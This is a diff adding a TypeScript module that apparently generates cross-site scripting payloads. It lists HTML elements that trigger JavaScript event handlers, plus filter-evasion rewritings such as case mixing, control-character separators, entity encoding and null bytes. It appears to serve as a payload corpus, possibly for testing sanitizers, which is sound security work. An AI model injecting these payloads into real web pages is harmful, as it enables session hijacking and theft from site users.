@@ -1,0 +1,83 @@
+import { pairs, technique } from './table.ts'
+
+/** Elements that fire an event by themselves or when they are touched; `EVENT` stands for the handler. */
+const elements = [
+  '<img src=x: onerror=EVENT>',
+  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload=EVENT>',
+  '<svg onload=EVENT></svg>',
+  '<svg><g onload=EVENT></g></svg>',
+  '<svg><animate attributeName=x dur=1s onbegin=EVENT></svg>',
+  '<svg><set attributeName=x to=y onbegin=EVENT></svg>',
+  '<svg><animateTransform attributeName=transform dur=1s onbegin=EVENT></svg>',
+  '<svg><image href=x: onerror=EVENT></svg>',
+  '<svg><a onclick=EVENT><text y=9>t</text></a></svg>',
+  '<math onclick=EVENT>m</math>',
+  '<body onload=EVENT>',
+  '<body onpageshow=EVENT>',
+  '<iframe onload=EVENT></iframe>',
+  '<iframe src=about:blank onload=EVENT></iframe>',
+  '<object data=x: onerror=EVENT></object>',
+  '<embed src=x: onerror=EVENT>',
+  '<script src=x: onerror=EVENT></script>',
+  '<link rel=stylesheet href=x: onerror=EVENT>',
+  '<style onload=EVENT>p{}</style>',
+  '<video src=x: onerror=EVENT></video>',
+  '<video><source src=x: onerror=EVENT></video>',
+  '<audio src=x: onerror=EVENT></audio>',
+  '<input autofocus onfocus=EVENT>',
+  '<input type=image src=x: onerror=EVENT>',
+  '<select autofocus onfocus=EVENT></select>',
+  '<textarea autofocus onfocus=EVENT></textarea>',
+  '<button autofocus onfocus=EVENT>b</button>',
+  '<details open ontoggle=EVENT>d</details>',
+  '<marquee onstart=EVENT>m</marquee>',
+  '<p onclick=EVENT>p</p>',
+  '<p onpointerover=EVENT>p</p>',
+  '<p oncopy=EVENT>p</p>',
+  '<a href=#x onclick=EVENT>a</a>',
+  '<p contenteditable onbeforeinput=EVENT>p</p>',
+  '<div tabindex=1 onfocusin=EVENT>d</div>',
+  '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=EVENT>p</p>',
+  '<button popovertarget=q>b</button><div popover id=q onbeforetoggle=EVENT>q</div>',
+  '<form onsubmit=EVENT><button>b</button></form>',
+  '<dialog open onclose=EVENT><form method=dialog><button>b</button></form></dialog>',
+  '<x-y onclick=EVENT>x</x-y>',
+]
+
+/** Ways of writing the same thing that a filter by patterns may overlook; `HANDLER` stands for `on…=…`. */
+const writings: readonly ((name: string) => string)[] = [
+  name => `<${name.toUpperCase()} SRC=x: ONERROR={run}>`,
+  name => `<${name}/src=x:/onerror={run}>`,
+  name => `<${name}\nsrc=x:\nonerror\n=\n{run}>`,
+  name => `<${name}\tsrc=x:\tonerror\t=\t{run}>`,
+  name => `<${name}\fsrc=x:\fonerror={run}>`,
+  name => `<${name} src=x: onerror='{run}'>`,
+  name => `<${name} src=x: onerror="{run}"`,
+  name => `<${name} src=x: onerror=\`\`;{run}>`,
+  name => `<${name} src=x: oNeRrOr={run}//`,
+  name => `<${name} src=x: onerror=&#112;wned.call(0,{run})>`,
+  name => `<${name} src=x: onerror="&#x7b;{run}&#x7d;">`,
+  name => `<${name} src=x: onerror=onload=onfocus={run}>`,
+  name => `<${name} src=x: alt="a" alt='onerror=' onerror={run}>`,
+  name => `<${name} src=x: =" onerror={run} ">`,
+  name => `<${name} "" src=x: onerror={run}>`,
+  name => `<<${name} src=x: onerror={run}>`,
+  name => `<p><${name} src=x: onerror={run}`,
+  name => `<${name} src=x:\u000bonerror={run} src=x: onerror={run}>`,
+  name => `<${name} src=x: on\u0000error={run} onerror={run}>`,
+]
+
+export const handlers = [
+  ...technique(
+    'event handler',
+    elements.map(text => text.replace('EVENT', '{run}')),
+  ),
+  ...technique(
+    'event handler, quoted',
+    elements.slice(0, 12).map(text => text.replace('EVENT', '"void 0;{run}"')),
+  ),
+  ...technique(
+    'event handler, written in another way',
+    pairs(['img', 'video', 'audio'], writings).map(([name, write]) => write(name)),
+  ),
+]
